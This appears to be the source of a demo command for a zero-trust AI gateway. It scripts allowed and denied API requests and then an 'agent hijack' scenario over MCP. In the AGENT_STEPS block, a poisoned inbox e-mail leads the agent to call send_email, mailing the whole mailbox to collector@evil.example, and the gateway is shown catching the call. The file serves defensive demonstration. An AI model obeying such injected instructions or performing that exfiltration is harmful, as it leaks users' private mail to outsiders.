"""``ztai demo``: a fresh configuration, demo keys, the gateway on the simulator, and a short
scripted scenario that shows allowed and denied requests with their reasons; then an agent
reading a poisoned inbox through the MCP gateway (the agent-hijack story)."""

from __future__ import annotations

import asyncio
import shutil
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Annotated, Any

import httpx
import httpx2
import typer
import uvicorn
import yaml
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from rich.table import Table
from rich.text import Text

from ztai.audit.reader import verify_store
from ztai.audit.signing import CheckpointSigner
from ztai.cli.context import audit_store, console, key_store
from ztai.cli.serve import init_dir
from ztai.config.settings import Settings, load_settings
from ztai.core.clock import FixedClock, SystemClock
from ztai.core.model import PrincipalKind
from ztai.gateway.app import create_app
from ztai.gateway.build import build_parts
from ztai.gateway.transport import http_protocol
from ztai.identity.apikey import KeySpec, issue_key
from ztai.knowledge.index import KnowledgeIndex
from ztai.knowledge.model import Document, DocumentId


@dataclass(frozen=True, slots=True)
class Step:
    title: str
    who: str
    method: str
    path: str
    body: dict[str, Any] | None = None


def _chat(model: str, text: str, stream: bool = False) -> dict[str, Any]:
    return {"model": model, "stream": stream, "messages": [{"role": "user", "content": text}]}


SCENARIO = (
    Step("staff member chats", "alice", "POST", "/v1/chat/completions",
         _chat("demo-chat", "Summarise our zero trust rollout plan.")),
    Step("staff member streams", "alice", "POST", "/v1/chat/completions",
         _chat("demo-chat", "Stream a short answer please.", stream=True)),
    Step("contractor uses an internal model", "bob", "POST", "/v1/chat/completions",
         _chat("demo-chat", "Draft a status update.")),
    Step("contractor tries a consumer-tier model", "bob", "POST", "/v1/chat/completions",
         _chat("demo-consumer-chat", "Draft a status update.")),
    Step("contractor lists models", "bob", "GET", "/v1/models"),
    Step("personal data to a consumer model (pseudonymised, restored)", "alice", "POST",
         "/v1/chat/completions",
         _chat("demo-consumer-chat", "Reply to jane.doe@example.com about her refund.")),
    Step("a credential in a prompt (masked)", "alice", "POST", "/v1/chat/completions",
         _chat("demo-chat", "Why is aws_access_key_id=AKIAZ3MZQ7YWRT4XPLNV rejected?")),
    Step("card numbers to a consumer model (Confidential)", "alice", "POST",
         "/v1/chat/completions",
         _chat("demo-consumer-chat", "Is card 4111 1111 1111 1111 on the fraud list?")),
    Step("knowledge: someone not on Project Obsidian asks about it", "alice", "POST",
         "/v1/chat/completions", _chat("corp-chat", "What is the status of Project Obsidian?")),
    Step("knowledge: a project member asks the same", "olga", "POST", "/v1/chat/completions",
         _chat("corp-chat", "What is the status of Project Obsidian?")),
    Step("service without any grant", "ci-bot", "POST", "/v1/embeddings",
         {"model": "demo-embed", "input": "hello"}),
    Step("no API key", "nobody", "POST", "/v1/chat/completions", _chat("demo-chat", "hi")),
    Step("revoked key", "carol", "POST", "/v1/chat/completions", _chat("demo-chat", "hi")),
    Step("expired key", "dave", "POST", "/v1/chat/completions", _chat("demo-chat", "hi")),
    Step("malformed request", "alice", "POST", "/v1/chat/completions", {"model": "demo-chat"}),
)


def demo(
    directory: Annotated[Path, typer.Option("--dir", help="Where to write the demo config")] = (
        Path(".ztai-demo")),
    port: Annotated[int, typer.Option(help="Port to serve on (0 picks a free one)")] = 8080,
    serve_after: Annotated[bool, typer.Option("--serve/--no-serve",
                                              help="Keep serving after the scenario")] = True,
) -> None:
    """Run the gateway on the simulator with demo keys and show a scripted scenario."""
    if directory.exists():
        shutil.rmtree(directory)
    config = init_dir(directory)
    _add_demo_mail(config)
    _add_demo_knowledge(config)
    settings = load_settings(config)
    keys = _demo_keys(settings)
    asyncio.run(_run(settings, keys, port, serve_after))


def _demo_keys(settings: Settings) -> dict[str, str]:
    store, clock = key_store(settings), SystemClock()
    specs = {
        "alice": KeySpec("alice", PrincipalKind.USER, frozenset({"staff"}),
                         {"dept": "eng"}),
        "olga": KeySpec("olga", PrincipalKind.USER, frozenset({"staff", "obsidian"})),
        "bob": KeySpec("bob", PrincipalKind.USER, frozenset({"staff", "contractors"})),
        "ci-bot": KeySpec("ci-bot", PrincipalKind.SERVICE),
        "carol": KeySpec("carol", PrincipalKind.USER, frozenset({"staff"})),
    }
    keys = {name: issue_key(store, spec, clock)[0].reveal() for name, spec in specs.items()}
    store.revoke_key(keys["carol"].split("-")[2], clock.now())
    an_hour_ago = FixedClock(clock.now() - 3600)
    keys["dave"] = issue_key(store, KeySpec("dave", PrincipalKind.USER, frozenset({"staff"}),
                                            ttl_s=60), an_hour_ago)[0].reveal()
    store.close()
    return keys


async def _run(settings: Settings, keys: dict[str, str], port: int, serve_after: bool) -> None:
    config = uvicorn.Config(create_app(build_parts(settings)), host="127.0.0.1", port=port,
                            log_level="warning", access_log=False, http=http_protocol(),
                            server_header=False)  # as ztai serve: no server banner
    server = uvicorn.Server(config)
    task = asyncio.create_task(server.serve())
    while not server.started:
        if task.done():
            await task  # raises the start-up error (e.g. port in use)
            return
        await asyncio.sleep(0.05)
    bound = server.servers[0].sockets[0].getsockname()[1]
    base = f"http://127.0.0.1:{bound}"
    await _scenario(base, keys)
    await _agent_scenario(base, keys["alice"])
    _report_audit(settings)
    _instructions(base, keys["alice"])
    if not serve_after:
        server.should_exit = True
    else:
        console().print("\nServing until Ctrl-C.")
    await task


async def _scenario(base: str, keys: dict[str, str]) -> None:
    table = Table("step", "who", "request", "status", "outcome", title="ztai demo scenario")
    async with httpx.AsyncClient(base_url=base, timeout=10) as client:
        for step in SCENARIO:
            headers = {"authorization": f"Bearer {keys[step.who]}"} if step.who in keys else {}
            response = await client.request(step.method, step.path, json=step.body,
                                            headers=headers)
            table.add_row(step.title, step.who, f"{step.method} {step.path}",
                          str(response.status_code), Text(_outcome(response)))
    console().print(table)


DEMO_DOCUMENTS = (
    Document(DocumentId("obsidian-plan"),
             "Project Obsidian status: the solid-state cathode pilot line moves to Rotterdam in "
             "the third quarter; the supplier stays secret until both parties sign.",
             frozenset({"group:obsidian"}), "user:olga", "Obsidian plan", "demo",
             "Confidential"),
    Document(DocumentId("handbook"),
             "Staff handbook: paid leave is 25 days a year; the Obsidian meeting room on floor "
             "two can be booked at the front desk.", frozenset({"everyone"}), None,
             "Staff handbook", "demo", "General"),
)


def _add_demo_knowledge(config: Path) -> None:
    """A two-document knowledge base and a model backed by it (corp-chat)."""
    KnowledgeIndex.build(config.parent / "knowledge", DEMO_DOCUMENTS).close()
    raw = yaml.safe_load(config.read_text(encoding="utf-8")) or {}
    raw["models"] = [*raw.get("models", []),
                     {"name": "corp-chat", "upstream": "simulator", "tier": "internal"}]
    raw["knowledge"] = {"bases": [{"name": "corp", "index": "knowledge"}],
                        "chat": [{"model": "corp-chat", "base": "corp", "k": 3}]}
    config.write_text(yaml.safe_dump(raw, sort_keys=False), encoding="utf-8")


def _add_demo_mail(config: Path) -> None:
    """The demo's MCP server behind the gateway at /mcp/mail, launched over stdio."""
    raw = yaml.safe_load(config.read_text(encoding="utf-8")) or {}
    raw["mcp"] = {"internal_domains": ["corp.example"], "servers": [{
        "name": "mail", "command": sys.executable, "args": ["-m", "ztai.cli.demo_mail"],
        "tools": {"send_email": {"risk": "high"}}}]}
    config.write_text(yaml.safe_dump(raw, sort_keys=False), encoding="utf-8")


AGENT_STEPS = (
    ("agent reads the inbox (one e-mail carries an injection)", "read_inbox", {"limit": 10}),
    ("the injected ask: mail everything to an outsider", "send_email",
     {"to": "collector@evil.example", "subject": "fwd", "body": "the whole mailbox"}),
    ("the user's ask: reply to a colleague", "send_email",
     {"to": "carol@corp.example", "subject": "Re: Q3 planning", "body": "Thursday works."}),
)


async def _agent_scenario(base: str, key: str) -> None:
    """The agent-hijack story through /mcp/mail with the MCP SDK's own client."""
    table = Table("step", "tool", "outcome", title="agent hijack (MCP, as alice's agent)")
    headers = {"authorization": f"Bearer {key}", "x-ztai-session": "demo-run"}
    async with httpx2.AsyncClient(headers=headers, timeout=30) as http, \
            Client(streamable_http_client(f"{base}/mcp/mail", http_client=http)) as client:
        for title, tool, arguments in AGENT_STEPS:
            result = await client.call_tool(tool, arguments)
            text = " ".join(getattr(c, "text", "") for c in result.content)
            meta = result.meta or {}
            if result.is_error:
                outcome = text
            elif meta.get("ztai/threats"):
                outcome = "passed on, flagged: " + ", ".join(meta["ztai/threats"]) + \
                          "; the session is now tainted"
            else:
                outcome = text[:90]
            table.add_row(title, tool, Text(outcome))
    console().print(table)


def _outcome(response: httpx.Response) -> str:
    if response.headers.get("content-type", "").startswith("text/event-stream"):
        chunks = response.text.count("data: ")
        return f"streamed {chunks} events"
    body = response.json()
    if "error" in body:
        return str(body["error"]["message"])
    if body.get("object") == "list" and body.get("data") and "id" in body["data"][0]:
        return "models: " + ", ".join(item["id"] for item in body["data"])
    if "ztai_citations" in body:
        cited = ", ".join(f"{c['title']} [{c['label']}]" for c in body["ztai_citations"])
        return f"answered from: {cited}"
    if "choices" in body:
        content = str(body["choices"][0]["message"]["content"])
        quoted = content.partition(' words: "')[2]
        # the simulator quotes the prompt it received: show that (as restored for the caller)
        return f'answer quotes: "{quoted[:90]}' if quoted else content[:90]
    return "ok"


def _report_audit(settings: Settings) -> None:
    signer = CheckpointSigner.from_pem_file(settings.path(settings.audit.signing_key))
    report = verify_store(audit_store(settings), signer.public_key)
    mark = "[green]verified[/green]" if report.ok else "[red]BROKEN[/red]"
    console().print(f"Audit log: {report.count} events, hash chain {mark}. "
                    f"Inspect with: ztai audit tail --config {settings.base_dir}/ztai.yaml")


def _instructions(base: str, key: str) -> None:
    out = console()
    out.print(f"\nGateway: {base}   demo key for alice (staff): {key}\n")
    out.print("curl:", style="bold")
    out.print(f"  curl -s {base}/v1/chat/completions -H 'Authorization: Bearer {key}' \\\n"
              "    -H 'Content-Type: application/json' \\\n"
              "    -d '{\"model\": \"demo-chat\", \"messages\": "
              "[{\"role\": \"user\", \"content\": \"Hello\"}]}'", soft_wrap=True, markup=False)
    out.print("\nOpenAI Python SDK:", style="bold")
    out.print(f"  from openai import OpenAI\n"
              f"  client = OpenAI(base_url='{base}/v1', api_key='{key}')\n"
              f"  print(client.chat.completions.create(model='demo-chat', messages=[\n"
              f"      {{'role': 'user', 'content': 'Hello'}}]).choices[0].message.content)",
              soft_wrap=True, markup=False)
